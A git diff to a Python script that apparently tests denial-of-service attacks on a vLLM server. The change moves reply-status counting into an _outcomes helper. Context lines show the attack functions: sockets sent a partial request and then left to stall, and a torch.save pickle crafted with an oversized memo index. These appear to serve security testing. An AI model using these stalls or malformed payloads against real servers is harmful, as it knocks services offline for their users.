@@ -82,6 +82,24 @@ os.environ.setdefault("VLLM_CPU_KVCACHE_SPACE", "1")
 MIB = 1 << 20
 
 
+def _outcomes(socks: list) -> dict[str, int]:
+    """How many of ``socks`` got each HTTP status (``waiting``: no answer within
+    0.5 s; ``cut``: closed without one; ``no connection``: None); closes them."""
+    outcomes: dict[str, int] = {}
+    for s in socks:
+        code = "no connection"
+        if s is not None:
+            s.settimeout(0.5)
+            try:
+                reply = s.recv(64).decode(errors="replace")
+                code = reply.split(" ")[1] if reply.startswith("HTTP/") else "cut"
+            except (TimeoutError, OSError):
+                code = "waiting"
+            s.close()
+        outcomes[code] = outcomes.get(code, 0) + 1
+    return outcomes
+
+
 def memo_trick(t: torch.Tensor, index: int = 1 << 26) -> bytes:
     """``torch.save(t)`` with one extra ``LONG_BINPUT index`` after the first
     GLOBAL of ``data.pkl``: still a valid pickle of the same tensor."""
@@ -164,16 +182,7 @@ def attack_stalled(url: str, args) -> dict:
         s.sendall(head + first)
         socks.append(s)
     time.sleep(args.stall_s)
-    outcomes: dict[str, int] = {}
-    for s in socks:
-        s.settimeout(0.5)
-        try:
-            reply = s.recv(64).decode(errors="replace")
-            code = reply.split(" ")[1] if reply.startswith("HTTP/") else "cut"
-        except (TimeoutError, OSError):
-            code = "waiting"
-        outcomes[code] = outcomes.get(code, 0) + 1
-        s.close()
+    outcomes = _outcomes(socks)
     return {"outcomes": outcomes}
 
 
@@ -497,18 +506,7 @@ def attack_binary_skeleton(url: str, stall_s: float = 12.0) -> dict:
     time.sleep(stall_s)
     stop.set()
     prober.join(40)
-    outcomes: dict[str, int] = {}
-    for s in socks:
-        code = "no connection"
-        if s is not None:
-            s.settimeout(0.5)
-            try:
-                reply = s.recv(64).decode(errors="replace")
-                code = reply.split(" ")[1] if reply.startswith("HTTP/") else "cut"
-            except (TimeoutError, OSError):
-                code = "waiting"
-            s.close()
-        outcomes[code] = outcomes.get(code, 0) + 1
+    outcomes = _outcomes(socks)
     return {"outcomes": outcomes, "sent": _codes(sent), "health_n": len(health),
             "health_max_s": round(max(health), 3) if health else None,
             "health_p50_s": _pct(health, 0.5), "health_errors": len(health_err)}
